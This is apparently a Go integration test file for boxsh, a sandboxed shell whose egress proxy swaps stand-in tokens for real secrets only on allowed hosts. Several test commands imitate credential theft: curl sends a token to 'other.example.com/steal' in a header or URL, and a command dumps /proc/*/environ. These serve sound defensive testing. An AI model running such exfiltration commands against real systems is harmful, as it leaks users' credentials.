//go:build linux

package integration

import (
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/boxsh/boxsh/integration/internal/outside"
	"github.com/boxsh/boxsh/internal/tool"
)

// authServers starts a server in the stand-in internet (standIn) for each
// name that records the Authorization header of each request. It never
// answers the header back.
func authServers(t *testing.T, names ...string) (addrs map[string]string, seen func() []string) {
	t.Helper()
	addrs, _, seen = recordingServers(t, false, names)
	return addrs, seen
}

// recordingServers starts a server in the stand-in internet (standIn) for
// each name (see serveName), over TLS when secure, that records the
// Authorization header of each request. Over TLS it returns the file of the
// roots that verify the servers.
func recordingServers(t *testing.T, secure bool, names []string) (addrs map[string]string, rootsFile string, seen func() []string) {
	t.Helper()
	n := standIn(t, outside.Config{Names: names})
	var mu sync.Mutex
	var got []string
	addrs = map[string]string{}
	var roots []byte
	greeting := "hello from"
	if secure {
		greeting = "tls hello from"
	}
	for _, name := range names {
		srv := serveName(t, n, name, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			got = append(got, name+r.URL.Path+" "+r.Header.Get("Authorization"))
			mu.Unlock()
			fmt.Fprintf(w, "%s %s %s", greeting, name, r.URL.Path)
		}), secure)
		if secure && len(roots) == 0 {
			roots = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})
		}
		addrs[name] = srv.Listener.Addr().String()
	}
	if secure {
		rootsFile = filepath.Join(t.TempDir(), "origin.crt") // the default policy denies reading *.pem
		writeHostFile(t, rootsFile, string(roots), 0o644)
	}
	return addrs, rootsFile, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), got...)
	}
}

// TestSecretAtEgress checks --secret: the sandbox holds a stand-in, which
// the proxy replaces with the value in requests to the secret's host only
// (a Bearer token, Basic credentials), and a request carrying the stand-in
// to another host is refused, said to the command and recorded. The value
// is in no variable of any process of the sandbox.
func TestSecretAtEgress(t *testing.T) {
	requireRootless(t)
	ctx := testContext(t)
	addrs, seen := authServers(t, "api.example.com", "other.example.com")
	_, port, _ := net.SplitHostPort(addrs["api.example.com"])
	const value = "ghp_0123456789abcdefABCDEFghijklmnopqr"
	t.Setenv("GH_TOKEN", value)
	audit := filepath.Join(t.TempDir(), "audit.jsonl")

	cmds := []string{
		`echo "$GH_TOKEN"`,
		`curl -sS --max-time 10 -H "Authorization: Bearer $GH_TOKEN" http://api.example.com:` + port + `/bearer`,
		`curl -sS --max-time 10 -u "x-access-token:$GH_TOKEN" http://api.example.com:` + port + `/basic`,
		`curl -sS --max-time 10 -H "Authorization: Bearer $GH_TOKEN" -o /dev/null -w '%{http_code}' http://other.example.com:` + port + `/steal`,
		`curl -sS --max-time 10 -o /dev/null -w '%{http_code}' "http://other.example.com:` + port + `/q?t=$GH_TOKEN"`,
		`curl -sS --max-time 10 http://other.example.com:` + port + `/plain`,
		`env; cat /proc/[0-9]*/environ | tr '\0' '\n'`,
	}
	r := runBoxsh(t, ctx, "", "--sandbox", "--secret", "GH_TOKEN=api.example.com", "--allow-domain", "other.example.com",
		"--audit", audit, "-c", sections(cmds))
	out := splitSections(t, r.stdout, len(cmds))
	require.Equal(t, 0, r.code(), "stderr:\n%s", r.stderr)

	standIn := out[0]
	assert.Len(t, standIn, len(value))
	assert.True(t, strings.HasPrefix(standIn, "ghp_"), "the shape is kept: %s", standIn)
	assert.NotEqual(t, value, standIn)
	assert.Equal(t, "hello from api.example.com /bearer", out[1])
	assert.Equal(t, "hello from api.example.com /basic", out[2])
	assert.Equal(t, "403", out[3], "the stand-in to another host")
	assert.Equal(t, "403", out[4], "the stand-in in another host's URL")
	assert.Equal(t, "hello from other.example.com /plain", out[5], "the other host without it")
	assert.Contains(t, out[6], "GH_TOKEN="+standIn)
	assert.NotContains(t, r.stdout, value, "the value never enters the sandbox")

	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+value))
	assert.Equal(t, []string{"api.example.com/bearer Bearer " + value, "api.example.com/basic " + basic, "other.example.com/plain "}, seen(),
		"the value reaches its host only; the refused requests reach nothing")
	assert.Contains(t, r.stderr, "carries the stand-in of secret GH_TOKEN")
	assert.NotContains(t, r.stderr, value, "the log never has the value")

	var used, leaks int
	for _, e := range readAudit(t, audit) {
		if e.Kind != tool.AuditNetwork {
			continue
		}
		assert.NotContains(t, fmt.Sprint(e), value)
		switch {
		case e.Allowed != nil && *e.Allowed && len(e.Secrets) > 0:
			assert.Equal(t, []string{"GH_TOKEN"}, e.Secrets)
			assert.Equal(t, "api.example.com", e.Host)
			used++
		case e.Allowed != nil && !*e.Allowed:
			assert.Equal(t, "other.example.com", e.Host)
			assert.Equal(t, "the request carries the stand-in of secret GH_TOKEN, which is only for api.example.com", e.Reason)
			assert.Empty(t, e.Allow)
			leaks++
		}
	}
	assert.Equal(t, 2, used, "the audit log says which secret went where")
	assert.Equal(t, 2, leaks)
}

// tlsServers starts an HTTPS server on the loopback for each name that
// records the Authorization header of each request, maps the names for the
// proxy (the test-seam build), and writes the roots that verify them in a
// PEM file of a directory of their own.
func tlsServers(t *testing.T, names ...string) (addrs map[string]string, pemFile string, seen func() []string) {
	t.Helper()
	return recordingServers(t, true, names)
}

// TestSecretOverHTTPS checks a secret in HTTPS requests: the proxy
// terminates TLS to the secret's host with its CA, which the sandbox
// trusts, and verifies the server against the host's roots and --ca-file;
// explicit (the proxy variables) and transparent egress alike. Another
// host's tunnel is untouched: the client sees the server's own
// certificate. The CA's key is in no file of the sandbox.
func TestSecretOverHTTPS(t *testing.T) {
	requireRootless(t)
	ctx := testContext(t)
	// httptest's certificate is for example.com (and 127.0.0.1).
	addrs, originPEM, seen := tlsServers(t, "example.com")
	_, port, _ := net.SplitHostPort(addrs["example.com"])
	const value = "ghp_9876543210abcdefABCDEFghijklmnopqr"
	t.Setenv("GH_TOKEN", value)
	audit := filepath.Join(t.TempDir(), "audit.jsonl")
	cmds := []string{
		`echo "$SSL_CERT_FILE $NODE_EXTRA_CA_CERTS $GIT_SSL_CAINFO"`,
		`curl -sS --max-time 10 -H "Authorization: Bearer $GH_TOKEN" https://example.com:` + port + `/explicit`,
		`curl -sS --max-time 10 --noproxy '*' -H "Authorization: Bearer $GH_TOKEN" https://example.com:` + port + `/transparent`,
		`curl -sS --max-time 10 -w '|%{http_code}' -H "Authorization: Bearer $GH_TOKEN" https://example.com:` + port + `/npm -H "X-Other: x"`,
		`curl -sS --max-time 10 --cacert ` + originPEM + ` https://example.com:` + port + `/pinned; echo "rc=$?"`,
		`grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt "$SSL_CERT_FILE" "$NODE_EXTRA_CA_CERTS"`,
		`grep -rl "PRIVATE KEY" /.boxsh /etc/ssl 2>/dev/null; echo done`,
	}
	r := runBoxsh(t, ctx, "", "--sandbox", "--secret", "GH_TOKEN=example.com", "--allow-domain", "example.com:"+port,
		"--ca-file", originPEM, "--bind", "ro:"+filepath.Dir(originPEM), "--audit", audit, "-c", sections(cmds))
	out := splitSections(t, r.stdout, len(cmds))
	t.Logf("stderr:\n%s", r.stderr)

	assert.Equal(t, "/.boxsh/ca-certificates.crt /.boxsh/egress-ca.crt /.boxsh/ca-certificates.crt", out[0])
	assert.Equal(t, "tls hello from example.com /explicit", out[1])
	assert.Equal(t, "tls hello from example.com /transparent", out[2])
	assert.Equal(t, "tls hello from example.com /npm|200", out[3])
	assert.Contains(t, out[4], "rc=60", "a client that trusts only the server's own certificate fails")
	assert.Contains(t, out[5], "/.boxsh/egress-ca.crt:1", "the CA alone")
	assert.NotContains(t, out[5], "ca-certificates.crt:0")
	assert.Equal(t, "done", out[6], "no private key in the sandbox's trust store")
	assert.NotContains(t, r.stdout, value)
	assert.Equal(t, []string{"example.com/explicit Bearer " + value, "example.com/transparent Bearer " + value, "example.com/npm Bearer " + value}, seen())
	assert.Contains(t, r.stderr, "TLS to example.com is terminated by boxsh's proxy for the secret GH_TOKEN", "the pinned client's failure is explained")

	var https int
	for _, e := range readAudit(t, audit) {
		if e.Kind == tool.AuditNetwork && e.Protocol == "https" && e.Allowed != nil && *e.Allowed {
			assert.Equal(t, []string{"GH_TOKEN"}, e.Secrets)
			https++
		}
	}
	assert.Equal(t, 3, https, "each request in a terminated tunnel is recorded")
}

// TestSecretTunnelUntouched checks that an allowed host no secret is for
// is tunnelled end to end: the client verifies the server's own
// certificate, and the proxy's CA would not do.
func TestSecretTunnelUntouched(t *testing.T) {
	requireRootless(t)
	ctx := testContext(t)
	addrs, originPEM, seen := tlsServers(t, "example.com")
	_, port, _ := net.SplitHostPort(addrs["example.com"])
	t.Setenv("GH_TOKEN", "ghp_9876543210abcdefABCDEFghijklmnopqr")
	r := runBoxsh(t, ctx, "", "--sandbox", "--secret", "GH_TOKEN=api.github.com", "--allow-domain", "example.com",
		"--bind", "ro:"+filepath.Dir(originPEM), "-c",
		sections([]string{
			`curl -sS --max-time 10 --cacert ` + originPEM + ` https://example.com:` + port + `/own`,
			`curl -sS --max-time 10 https://example.com:` + port + `/ours; echo "rc=$?"`,
		}))
	out := splitSections(t, r.stdout, 2)
	assert.Equal(t, "tls hello from example.com /own", out[0], r.stderr)
	assert.Contains(t, out[1], "rc=60", "the system bundle (with the proxy's CA) does not verify the server")
	assert.Equal(t, []string{"example.com/own "}, seen())
}

// TestAllowRequest checks --allow-request: a host with rules by method and
// path gets only the requests they allow, over HTTPS too (the proxy
// terminates TLS to see them), and a refusal names the rules and the
// setting that would allow it, in the bash result as well.
func TestAllowRequest(t *testing.T) {
	requireRootless(t)
	ctx := testContext(t)
	addrs, originPEM, seen := tlsServers(t, "example.com")
	_, port, _ := net.SplitHostPort(addrs["example.com"])
	s := startServer(t, ctx, serverOptions{args: []string{"--sandbox", "--allow-request", "read https://example.com/pub/",
		"--allow-domain", "example.com:" + port, "--ca-file", originPEM}})
	res := s.call("bash", map[string]any{"command": `curl -sS --max-time 10 https://example.com:` + port + `/pub/a; echo; echo --; ` +
		`curl -sS --max-time 10 -X DELETE -w '|%{http_code}' https://example.com:` + port + `/pub/a; echo; echo --; ` +
		`curl -sS --max-time 10 --noproxy '*' -w '|%{http_code}' https://example.com:` + port + `/private`, "timeout": 30})
	out := res.bash(t)
	lines := strings.Split(out.Stdout, "\n--\n")
	require.Len(t, lines, 3, "%+v", out)
	assert.Equal(t, "tls hello from example.com /pub/a", lines[0])
	assert.Equal(t, "boxsh: the request to example.com:"+port+" is refused: DELETE /pub/a is not allowed by the host's request rules (read https://example.com/pub/). To allow it, run with --allow-request 'DELETE https://example.com:"+port+"/pub/a'.\n|403", lines[1])
	assert.True(t, strings.HasPrefix(lines[2], "boxsh: the request to example.com:"+port+" is refused: GET /private is not allowed") && strings.HasSuffix(lines[2], "|403"), lines[2])
	assert.Equal(t, []string{"example.com/pub/a "}, seen(), "the refused requests reached nothing")
	r := res.toolResult(t)
	require.Len(t, r.Content, 2, "the refusals' line")
	assert.Contains(t, r.Content[1].Text, "DELETE /pub/a is not allowed by the host's request rules", "the refusal is in the result")
}

// TestSecretFile checks --secret-file: the sandbox sees the credentials
// file with a stand-in, which the proxy replaces with the file's value in
// requests to the file's host only.
func TestSecretFile(t *testing.T) {
	requireRootless(t)
	ctx := testContext(t)
	addrs, seen := authServers(t, "registry.example.com", "other.example.com")
	_, port, _ := net.SplitHostPort(addrs["registry.example.com"])
	const value = "npm_REALtoken0123456789abcdef"
	npmrc := filepath.Join(t.TempDir(), ".npmrc")
	writeHostFile(t, npmrc, "registry=http://registry.example.com:"+port+"/\n//registry.example.com:"+port+"/:_authToken="+value+"\n", 0o600)
	token := `"$(sed -n 's/.*_authToken=//p' ` + npmrc + `)"`
	r := runBoxsh(t, ctx, "", "--sandbox", "--secret-file", npmrc+"=registry.example.com", "--allow-domain", "other.example.com", "-c", sections([]string{
		`cat ` + npmrc,
		`curl -sS --max-time 10 -H "Authorization: Bearer ` + token + `" http://registry.example.com:` + port + `/pkg`,
		`curl -sS --max-time 10 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer ` + token + `" http://other.example.com:` + port + `/steal`,
	}))
	out := splitSections(t, r.stdout, 3)
	require.Equal(t, 0, r.code(), r.stderr)
	assert.Contains(t, out[0], "registry=http://registry.example.com:"+port+"/\n//registry.example.com:"+port+"/:_authToken=npm_", "the file, its shape kept")
	assert.NotContains(t, r.stdout, value, "the value never enters the sandbox")
	assert.Equal(t, "hello from registry.example.com /pkg", out[1])
	assert.Equal(t, "403", out[2])
	assert.Equal(t, []string{"registry.example.com/pkg Bearer " + value}, seen())
}

// TestSecretServe checks that a server's commands (bash calls) hold the
// stand-in too, and that the proxy puts the value in their requests.
func TestSecretServe(t *testing.T) {
	requireRootless(t)
	ctx := testContext(t)
	addrs, seen := authServers(t, "api.example.com")
	_, port, _ := net.SplitHostPort(addrs["api.example.com"])
	const value = "glpat-ABCDEFGHIJ0123456789xyz"
	s := startServer(t, ctx, serverOptions{args: []string{"--sandbox", "--secret", "GL_TOKEN=api.example.com"}, env: []string{"GL_TOKEN=" + value}})
	out := s.call("bash", map[string]any{"command": `echo "$GL_TOKEN"; curl -sS --max-time 10 -H "Authorization: Bearer $GL_TOKEN" http://api.example.com:` + port + `/served`, "timeout": 20}).bash(t)
	standIn, body, _ := strings.Cut(out.Stdout, "\n")
	assert.True(t, strings.HasPrefix(standIn, "glpat-") && len(standIn) == len(value) && standIn != value, "a stand-in: %q", standIn)
	assert.Equal(t, "hello from api.example.com /served", body, "%+v", out)
	assert.Equal(t, []string{"api.example.com/served Bearer " + value}, seen())
	var stats tool.StatsOutput
	require.NoError(t, json.Unmarshal(s.call("sandbox_stats", map[string]any{}).toolResult(t).StructuredContent, &stats))
	assert.Equal(t, []tool.SecretUse{{Secret: "GL_TOKEN", Host: "api.example.com", Requests: 1}}, stats.SecretUses, "sandbox_stats counts the uses")
}

// TestSecretRefusals checks the command lines and settings --secret
// refuses, each with a message that says why.
func TestSecretRefusals(t *testing.T) {
	requireRootless(t)
	ctx := testContext(t)
	t.Setenv("SHORT_TOKEN", "abc")
	t.Setenv("GOOD_TOKEN", "good-0123456789abcdefgh")
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"--secret", "GH_TOKEN"}, `--secret "GH_TOKEN": expected NAME=HOST[,HOST...], such as GH_TOKEN=api.github.com`},
		{[]string{"--secret", "NO_SUCH_TOKEN_SET=api.example.com"}, "secret NO_SUCH_TOKEN_SET (--secret): $NO_SUCH_TOKEN_SET is not set in boxsh's environment"},
		{[]string{"--secret", "SHORT_TOKEN=api.example.com"}, "fewer than the 12 its stand-in needs"},
		{[]string{"--secret", "GOOD_TOKEN=api.example.com", "--network", "disabled"}, "--secret GOOD_TOKEN=api.example.com needs --network allowlist, not --network disabled"},
		{[]string{"--secret", "GOOD_TOKEN=*.com"}, "too broad"},
	} {
		r := runBoxsh(t, ctx, "", append(append([]string{"--sandbox"}, c.args...), "-c", "echo ran")...)
		assert.NotEqual(t, 0, r.code(), "%v", c.args)
		assert.NotContains(t, r.stdout, "ran", "%v", c.args)
		assert.Contains(t, r.stderr, c.want, "%v", c.args)
	}
}
